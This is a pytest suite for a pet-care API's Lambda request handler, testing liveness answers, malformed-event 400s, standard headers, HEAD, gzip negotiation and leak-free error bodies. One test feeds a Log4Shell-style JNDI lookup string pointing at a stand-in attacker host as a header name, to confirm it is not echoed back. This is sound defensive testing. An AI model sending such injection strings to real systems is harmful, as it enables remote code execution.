"""What every invocation gets (petsage_api.http_api), whichever route answers it, through the real handler.

An event that is no HTTP API request gets the liveness object; a malformed request event a JSON 400
naming the field (never a caller's name or value); a request the routers' answer, HEAD as GET
without its body, gzipped when large and accepted; every answer the standard headers, every error
the one JSON body, never a stack trace. What each invocation writes: test_observability.py.
"""

from __future__ import annotations

import base64
import copy
import gzip
import json
from collections.abc import Callable
from typing import Any

import pytest
from aws_lambda_powertools.event_handler.router import APIGatewayHttpRouter

from local_api.lambda_runtime import LocalLambdaContext
from petsage_api.health.models import HealthCheckResponse
from petsage_api.http_api import Resolver, accepts_gzip
from petsage_api.root.models import WelcomeResponse
from tests.conftest import Invoke, load_event, logged, request
from tests.contract import LIVENESS, LIVENESS_BODY

STANDARD = {"X-Content-Type-Options": "nosniff", "Cache-Control": "no-store"}


def malformed(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
    """A GET /api/v1/health event with one change."""
    event = request()
    change(event)
    return event


def error(response: dict[str, Any]) -> dict[str, Any]:
    assert response["headers"]["Content-Type"] == "application/json"
    body: dict[str, Any] = json.loads(response["body"])
    assert body["statusCode"] == response["statusCode"]
    return body


# --- an event that is no HTTP API request: the liveness object itself ------------------------------


@pytest.mark.parametrize(
    "event",
    [
        pytest.param({}, id="empty object (aws lambda invoke, sam local invoke --no-event)"),
        pytest.param(load_event("scheduled"), id="EventBridge schedule (events/scheduled.json)"),
        pytest.param(load_event("codedeploy-hook"), id="a CodeDeploy hook event sent to the wrong function"),
        pytest.param(None, id="null"),
        pytest.param([{"rawPath": "/"}], id="array"),
        pytest.param("GET /api/v1/health", id="string"),
        pytest.param({"Records": [{"eventSource": "aws:sqs"}]}, id="SQS batch"),
        pytest.param({"request_context": {}, "raw_path": "/"}, id="snake_case keys only: not API Gateway's"),
    ],
)
def test_an_event_that_is_no_request_gets_the_liveness_object(
    invoke: Invoke, event: Any, caplog: pytest.LogCaptureFixture
) -> None:
    assert invoke(event) == LIVENESS
    assert logged(caplog, "Not an HTTP API request: answered with liveness")["event_type"] == type(event).__name__


# --- a malformed request event: a JSON 400 naming the field --------------------------------------


@pytest.mark.parametrize(
    ("event", "message"),
    [
        pytest.param(
            {"httpMethod": "GET", "path": "/"},
            "version: Field required; rawPath: Field required; requestContext: Field required",
            id="one key of a request (REST v1)",
        ),
        pytest.param(malformed(lambda e: e.update(version="1.0")), "version: Input should be '2.0'", id="v1"),
        pytest.param(malformed(lambda e: e.pop("requestContext")), "requestContext: Field required", id="context"),
        pytest.param(
            malformed(lambda e: e["requestContext"].pop("http")), "requestContext.http: Field required", id="http"
        ),
        pytest.param(
            malformed(lambda e: e.update(request_context=e.pop("requestContext"))),
            "requestContext: Field required",
            id="request_context: the resolver reads requestContext",
        ),
        pytest.param(
            malformed(lambda e: e.update(raw_path=e.pop("rawPath"))),
            "rawPath: Field required",
            id="raw_path: the resolver reads rawPath",
        ),
        pytest.param(
            malformed(lambda e: e["requestContext"].update(http={"Method": "GET"})),
            "requestContext.http.method: Field required",
            id="a name in another case",
        ),
        pytest.param(
            malformed(lambda e: e["requestContext"].pop("stage")), "requestContext.stage: Field required", id="stage"
        ),
        pytest.param(
            malformed(lambda e: e.update(rawPath="/api/v1/health\n")),
            "rawPath: String should match pattern",
            id="a control character in the path",
        ),
        pytest.param(
            malformed(lambda e: e.update(isBase64Encoded="false")), "isBase64Encoded: Input should be a valid boolean"
        ),
        pytest.param(
            malformed(lambda e: e["requestContext"].update(authorizer={"iam": "yes"})),
            "requestContext.authorizer.iam: Input should be a valid dictionary",
            id="an authorizer of the wrong shape",
        ),
        pytest.param(
            malformed(lambda e: e.update(pathParameters={"petId": 1})),
            "pathParameters.*: Input should be a valid string",
            id="names in the caller's maps are masked",
        ),
        pytest.param(
            malformed(lambda e: e.update(cookies=["session=a", 1])), "cookies.*: Input should be a valid string"
        ),
        pytest.param(
            malformed(lambda e: e.update(rawPath=1, headers="x", cookies=[1], body=2)),
            "rawPath: Input should be a valid string; headers: Input should be a valid dictionary; "
            "cookies.*: Input should be a valid string",
            id="the first three problems, in event order",
        ),
    ],
)
def test_a_malformed_request_event_is_a_400_naming_the_field(
    invoke: Invoke, event: dict[str, Any], message: str, caplog: pytest.LogCaptureFixture
) -> None:
    response = invoke(event)
    assert response["statusCode"] == 400
    assert {**response["headers"], **STANDARD} == response["headers"]
    body = error(response)
    assert body["message"].startswith(f"malformed HTTP API event: {message}")
    assert logged(caplog, "Rejected a malformed HTTP API event")["reason"] == body["message"]


@pytest.mark.parametrize("key", ["requestContext", "rawPath", "routeKey", "httpMethod"])
def test_any_one_key_of_a_request_alone_is_a_malformed_request_not_a_direct_invoke(invoke: Invoke, key: str) -> None:
    response = invoke({key: {}})
    assert response["statusCode"] == 400
    assert error(response)["message"].startswith("malformed HTTP API event: ")


@pytest.mark.parametrize("field", ["headers", "queryStringParameters"])
def test_a_400_never_echoes_a_name_or_value_the_caller_chose(invoke: Invoke, field: str) -> None:
    event = request()
    event[field] = {"Authorization": 1, "${jndi:ldap://attacker.invalid/a}": ["secret-value"]}
    body = invoke(event)["body"]
    assert f"{field}.*: Input should be a valid string" in body
    for secret in ("Authorization", "jndi", "attacker", "secret-value"):
        assert secret not in body


def test_every_field_the_resolver_reads_is_checked_by_its_api_gateway_name() -> None:
    # What the 400 check accepts is what the resolver reads: no field is accepted by another name.
    from petsage_api.http_api import HttpApiEvent

    assert set(HttpApiEvent.model_json_schema(by_alias=True)["properties"]) == {
        "version", "rawPath", "rawQueryString", "headers", "queryStringParameters", "pathParameters", "cookies", "body",
        "isBase64Encoded", "requestContext",
    }  # fmt: skip


# --- a request: the routers' answer, finished alike ----------------------------------------------


@pytest.mark.parametrize(
    "event",
    [
        pytest.param(request("GET", "/api/v1/health"), id="liveness"),
        pytest.param(request("HEAD", "/"), id="HEAD"),
        pytest.param(request("GET", "/nowhere"), id="404"),
        pytest.param(request("POST", "/api/v1/health", body=b"{}"), id="an unrouted method: 404"),
        pytest.param(request("GET", "/api/v1/health/ready/details"), id="unsigned details: 403"),
        pytest.param(request("GET", "/docs", headers={"accept-encoding": "gzip"}), id="gzipped document"),
        pytest.param(malformed(lambda e: e.pop("requestContext")), id="400"),
    ],
)
def test_every_answer_carries_the_standard_headers(invoke: Invoke, event: dict[str, Any]) -> None:
    assert {**invoke(event)["headers"], **STANDARD} == invoke(event)["headers"]


def test_a_header_a_route_set_itself_is_kept_whatever_its_case() -> None:
    from petsage_api.http_api import _finished

    response = _finished({"statusCode": 200, "headers": {"cache-control": "max-age=5"}, "body": ""})
    assert response["headers"] == {"cache-control": "max-age=5", "X-Content-Type-Options": "nosniff"}


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND"])
def test_a_path_or_method_no_route_serves_is_a_json_404(invoke: Invoke, method: str) -> None:
    for event in (request("GET", "/api/v2/nothing"), request(method, "/api/v1/health")):
        response = invoke(event)
        assert response["statusCode"] == 404
        assert error(response) == {"statusCode": 404, "message": "Not Found"}


@pytest.mark.parametrize("path", ["/api/v1/health", "/", "/docs", "/openapi.json", "/nowhere"])
def test_head_is_the_get_status_and_headers_without_a_body(invoke: Invoke, path: str) -> None:
    get, head = invoke(request("GET", path)), invoke(request("HEAD", path))
    assert (head["statusCode"], head["headers"], head["body"]) == (get["statusCode"], get["headers"], "")


def test_head_of_a_gzipped_document_keeps_its_headers_and_leaves_the_callers_event_untouched(invoke: Invoke) -> None:
    event = request("head", "/docs", headers={"accept-encoding": "gzip"})
    before = copy.deepcopy(event)
    head = invoke(event)
    assert head["headers"]["Content-Encoding"] == "gzip"
    assert (head["statusCode"], head["body"], head["isBase64Encoded"]) == (200, "", False)
    assert event == before


# --- content coding: large bodies, when accepted -----------------------------------------------------


@pytest.mark.parametrize(
    ("accept_encoding", "accepted"),
    [
        (None, False),
        ("", False),
        ("gzip", True),
        ("GZIP", True),
        ("x-gzip", True),
        ("deflate, gzip;q=0.5", True),
        ("br;q=1.0, *;q=0.1", True),
        ("gzip ; q = 0.5 ", True),
        ("gzip;q=0.001", True),
        ("gzip;q=0", False),  # RFC 9110, 12.5.3: a weight of 0 refuses it
        ("gzip;q=0.000", False),
        ("*;q=0", False),
        ("identity", False),
        ("gzip;q=0, x-gzip", False),  # gzip's own weight decides before its alias...
        ("x-gzip;q=0, *", False),  # ...and the alias's before the wildcard
        ("gzip;q=bogus", False),
        ("gzip;q=1..0, *;q=0.5", True),  # an unreadable weight discards that coding only
    ],
)
def test_accept_encoding_is_read_by_its_weights(accept_encoding: str | None, accepted: bool) -> None:
    assert accepts_gzip(accept_encoding) is accepted


def test_a_large_body_is_gzipped_when_accepted_and_varies_by_it(invoke: Invoke) -> None:
    plain = invoke(request("GET", "/openapi.json"))
    gzipped = invoke(request("GET", "/openapi.json", headers={"accept-encoding": "gzip"}))
    assert plain["headers"]["Vary"] == gzipped["headers"]["Vary"] == "Accept-Encoding"
    assert "Content-Encoding" not in plain["headers"]
    assert (gzipped["headers"]["Content-Encoding"], gzipped["isBase64Encoded"]) == ("gzip", True)
    assert gzip.decompress(base64.b64decode(gzipped["body"])).decode() == plain["body"]


def test_small_answers_are_never_content_coded(invoke: Invoke) -> None:
    # The liveness answer stays byte for byte what canaries compare, whatever the caller accepts.
    for path in ("/api/v1/health", "/", "/api/v1/health/ready", "/nowhere"):
        response = invoke(request("GET", path, headers={"accept-encoding": "gzip"}))
        assert ("Content-Encoding", "Vary") not in response["headers"].items()
        assert response["isBase64Encoded"] is False
    assert invoke(request(headers={"accept-encoding": "gzip"}))["body"] == LIVENESS_BODY


def test_a_gzipped_document_is_the_same_bytes_in_every_environment(invoke: Invoke) -> None:
    # No timestamp in the gzip header: two environments, or two deploys, send the same bytes.
    body = invoke(request("GET", "/openapi.json", headers={"accept-encoding": "gzip"}))["body"]
    assert base64.b64decode(body)[4:8] == b"\x00\x00\x00\x00"  # MTIME (RFC 1952, 2.3): unset


def test_a_document_is_compressed_once_per_environment(invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    from petsage_api import http_api

    http_api._gzipped_base64.cache_clear()
    calls: list[int] = []
    compress = gzip.compress

    def counting_compress(data: bytes, **options: Any) -> bytes:
        calls.append(len(data))
        return compress(data, **options)

    monkeypatch.setattr("gzip.compress", counting_compress)
    first = invoke(request("GET", "/docs", headers={"accept-encoding": "gzip"}))
    second = invoke(request("GET", "/docs", headers={"accept-encoding": "gzip"}))
    assert first["body"] == second["body"]
    assert len(calls) == 1


# --- errors: one JSON body, never a stack trace -----------------------------------------------------


def test_an_unexpected_error_is_a_logged_json_500_that_gives_nothing_away(
    invoke: Invoke, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def explode() -> HealthCheckResponse:
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr("petsage_api.health.router.HealthCheckResponse", explode)
    response = invoke(request(headers={"accept-encoding": "gzip"}))
    assert response["statusCode"] == 500
    assert error(response) == {"statusCode": 500, "message": "Internal Server Error"}
    assert (response["headers"]["Cache-Control"], response["isBase64Encoded"]) == ("no-store", False)
    assert "secret internal detail" in str(logged(caplog, "Unhandled error while resolving the request")["exc_info"])


def test_a_response_that_breaks_its_own_model_is_a_500_never_a_422(
    invoke: Invoke, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    # A route bug: data of the wrong shape where the model promises strings.
    monkeypatch.setattr("petsage_api.health.router.HealthCheckResponse", lambda: {"status": None, "message": 42})
    response = invoke(request())
    assert error(response) == {"statusCode": 500, "message": "Internal Server Error"}
    problems = logged(caplog, "Response failed its own model")["errors"]
    assert (("response", "status"), "string_type") in problems  # where and what, never the value
    assert "Unhandled error while resolving the request" not in [record.getMessage() for record in caplog.records]


def test_a_routes_invalid_input_is_a_422_naming_it_not_echoing_it() -> None:
    # No route takes input yet; the next one that does gets the same error body as every other.
    app = Resolver(direct_answer=HealthCheckResponse)
    router = APIGatewayHttpRouter()

    @router.get("/pets/<pet_id>")
    def pet(pet_id: int) -> HealthCheckResponse:
        return HealthCheckResponse()

    app.include_router(router)
    response = app.answer(request("GET", "/pets/secret-name"), LocalLambdaContext("HealthFunction"))
    assert response["statusCode"] == 422
    message = error(response)["message"]
    assert message.startswith("invalid request: path.pet_id: Input should be a valid integer")
    assert "secret-name" not in message


def test_a_400_names_no_more_than_the_first_three_problems(invoke: Invoke) -> None:
    event = malformed(lambda e: e.update(rawPath=1, headers="x", cookies=[1], body=2))
    problems = error(invoke(event))["message"].removeprefix("malformed HTTP API event: ").split("; ")
    assert [problem.partition(":")[0] for problem in problems] == ["rawPath", "headers", "cookies.*"]


def test_a_422_names_no_more_than_the_first_three_invalid_inputs() -> None:
    app = Resolver(direct_answer=HealthCheckResponse)
    router = APIGatewayHttpRouter()

    @router.get("/litters/<first>/<second>/<third>/<fourth>")
    def litter(first: int, second: int, third: int, fourth: int) -> HealthCheckResponse:
        return HealthCheckResponse()

    app.include_router(router)
    response = app.answer(request("GET", "/litters/a/b/c/d"), LocalLambdaContext("HealthFunction"))
    problems = error(response)["message"].removeprefix("invalid request: ").split("; ")
    assert [problem.partition(":")[0] for problem in problems] == ["path.first", "path.second", "path.third"]


def test_any_app_built_on_the_resolver_gets_its_direct_answer_and_the_json_404_and_500() -> None:
    # The composition root is one such app; this one has another direct answer and a broken route.
    app = Resolver(direct_answer=WelcomeResponse)
    router = APIGatewayHttpRouter()

    @router.get("/broken")
    def broken() -> HealthCheckResponse:
        return {"status": None}  # type: ignore[return-value]  # a route bug: data of the wrong shape

    app.include_router(router)
    context = LocalLambdaContext("HealthFunction")
    assert app.answer({}, context) == WelcomeResponse().model_dump()
    assert error(app.answer(request("GET", "/nowhere"), context)) == {"statusCode": 404, "message": "Not Found"}
    broken_answer = app.answer(request("GET", "/broken"), context)
    assert error(broken_answer) == {"statusCode": 500, "message": "Internal Server Error"}


def test_a_body_the_route_encoded_itself_is_sent_as_it_is_with_the_standard_headers() -> None:
    from petsage_api.http_api import _finished

    body = base64.b64encode(bytes(2048)).decode()
    response = _finished({"statusCode": 200, "body": body, "isBase64Encoded": True}, "gzip")
    assert (response["body"], response["isBase64Encoded"], response["headers"]) == (body, True, STANDARD)


@pytest.mark.parametrize(("size", "gzipped"), [(1023, False), (1024, True)])
def test_bodies_from_1_kib_up_are_gzipped_when_accepted(size: int, gzipped: bool) -> None:
    from petsage_api.http_api import _finished

    response = _finished({"statusCode": 200, "headers": {}, "body": "x" * size}, "gzip")
    assert ("Content-Encoding" in response["headers"]) is gzipped
